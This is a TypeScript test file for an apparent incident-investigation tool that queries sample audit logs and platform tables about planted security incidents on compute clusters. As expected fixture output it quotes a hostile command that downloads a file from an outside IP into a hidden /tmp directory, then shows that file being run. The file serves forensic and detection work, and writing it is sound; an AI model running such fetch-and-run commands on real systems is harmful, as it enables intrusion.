import { readdirSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { TableRow } from "../../src/model/investigation-cases.ts";
import { readEvents } from "../../src/rehearsal/recorded/events-file.ts";
import { parameterLiterals } from "../../src/render/investigation/parameters.ts";
import { askedIn, investigationStatement } from "../../src/render/investigation/statement.ts";
import { adapt } from "../../src/simulator/engine/adapt.ts";
import { loadAuditLog } from "../../src/simulator/engine/audit-log.ts";
import { type Engine, openEngine, type Row } from "../../src/simulator/engine/engine.ts";
import { loadPlatformTables } from "../../src/simulator/engine/platform-tables.ts";
import { visibleRows } from "../../src/simulator/engine/visibility.ts";
import { fill } from "../../src/sql/fill.ts";
import { planWith } from "../support/plans.ts";
import { REPOSITORY, shippedContent, withoutLedger, workspaceOf } from "../support/repository.ts";

const SAMPLES = `${REPOSITORY}samples/`;
/** Everything of the sample day has arrived. */
const CLOCK = "cast('2026-03-03T00:00:00Z' as timestamp)";

interface Planted {
  readonly finding_key: string;
  readonly detection: string;
  readonly cluster: string | null;
  readonly user: string | null;
}

const planted: readonly Planted[] = JSON.parse(readFileSync(`${SAMPLES}planted.json`, "utf8"));
const incident = (number: number) => planted[number - 1]?.finding_key ?? "";

const content = await shippedContent();
const asked = askedIn(planWith(content, withoutLedger(workspaceOf(content, "dev"))));

let engine: Engine;

beforeAll(async () => {
  engine = await openEngine();
  await loadAuditLog(engine, await readEvents(`${SAMPLES}audit.ndjson`, "delivery"));
  await loadPlatformTables(engine, { tables: content.tables, rows: tableRows() });
}, 60_000);

afterAll(() => engine.close());

function tableRows(): Readonly<Record<string, readonly TableRow[]>> {
  return Object.fromEntries(
    readdirSync(`${SAMPLES}tables`).map((file) => [
      file.replace(/\.ndjson$/, ""),
      readFileSync(`${SAMPLES}tables/${file}`, "utf8")
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line)),
    ]),
  );
}

function ask(slug: string, event: string): Promise<readonly Row[]> {
  const investigation = content.investigations.find((other) => other.slug === slug);
  if (investigation === undefined) throw new Error(`no investigation ${slug}`);
  const sql = fill(investigationStatement(asked, investigation), parameterLiterals(investigation, { event }));
  return engine.run(adapt(sql, { clock: CLOCK, visible: visibleRows(CLOCK, "arrived") }));
}

describe("the first investigation", () => {
  test.each(planted.filter(({ cluster }) => cluster !== null))(
    "names $cluster and $user for $detection",
    async ({ finding_key, cluster, user }) => {
      const [row, ...more] = await ask("which-cluster", finding_key);

      expect({ cluster: row?.cluster, users: row?.users }).toEqual({ cluster, users: user });
      expect(more).toEqual([]);
    },
    30_000,
  );

  test("says what is missing for the host that is in no table", async () => {
    const [row] = await ask("which-cluster", incident(6));

    expect(row).toMatchObject({
      cluster: "unknown: may be a SQL warehouse's host",
      users: "unknown",
      instance_id: "i-9d3e0000000000001",
      known_from: "nothing",
    });
  }, 30_000);

  test("finds the cluster whose placement is missing by the node timeline, with its new init script", async () => {
    const [row] = await ask("which-cluster", incident(3));

    expect(row).toMatchObject({
      cluster: "platform-tools",
      known_from: "system.compute.node_timeline",
      init_scripts: "/Volumes/platform/init/add-team-root.sh",
      settings_since: "2026-03-02T09:31:14.000Z",
    });
  }, 30_000);
});

describe("the walk goes on", () => {
  test("from the escape to its lineage in a notebook's container", async () => {
    const rows = await ask("where-did-it-come-from", incident(2));

    expect(rows.map(({ program, ran_in }) => `${program} in ${ran_in}`)).toEqual([
      "/usr/bin/python3 in container spark-8841",
      "/bin/bash in container spark-8841",
      "/tmp/.x/run in container spark-8841",
    ]);
  }, 30_000);

  test("from the escape to the command that fetched the file", async () => {
    const rows = await ask("what-did-they-run", incident(2));

    expect(rows.map(({ who }) => who)).toEqual(rows.map(() => "noor@example.test"));
    expect(rows.map(({ command }) => command)).toContain(
      "%sh mkdir -p /tmp/.x && curl -so /tmp/.x/run http://203.0.113.66/run",
    );
  }, 30_000);

  test("from the kernel module to the run of a job", async () => {
    const rows = await ask("who-was-on-it", incident(5));

    expect(rows.map(({ who, did, what }) => [who, did, what])).toEqual([
      ["mateo@example.test", "created the cluster", null],
      ["mateo@example.test", "ran a job", "job 4410 churn-model run 90021"],
    ]);
  }, 30_000);

  test("from an unreadable detail to the statements of a warehouse, omar's among them", async () => {
    const [lineage] = await ask("where-did-it-come-from", incident(6));
    const statements = await ask("what-did-they-run", incident(6));

    expect(lineage?.note).toBe(
      'The detail cannot be read. It begins: {"uuid":"c8000000-0000-4000-8000-000000000006","priority":"Medium","loca',
    );
    expect(statements).toContainEqual({
      event_time: "2026-03-02T20:47:02.000Z",
      who: "omar@example.test",
      kind: "SQL statement",
      place: "warehouse 9d3e00000000ab01",
      command: "select * from read_files('s3://landing.example.test/orders/')",
      status: null,
    });
  }, 30_000);

  test("from the boot files to who had switched verbose audit logging off", async () => {
    const [row] = await ask("what-did-they-run", incident(7));

    expect(row).toEqual({
      event_time: "2026-03-02T13:12:40.000Z",
      who: "lena@example.test",
      kind: "verbose logging",
      place: null,
      command:
        "Verbose audit logging was off at the time of the event, since this moment and by this person: commands were not recorded.",
      status: "false",
    });
  }, 30_000);

  test("from the certificates to how often it was seen here until then", async () => {
    const rows = await ask("is-this-normal-here", incident(3));

    expect(
      rows.map(({ seen, in_workspace, on_this_cluster }) => [seen, in_workspace, on_this_cluster]),
    ).toEqual([
      ["this action, process and image", 1, 1],
      ["this action and process", 34, 1],
      ["this action", 34, 1],
    ]);
  }, 30_000);
});
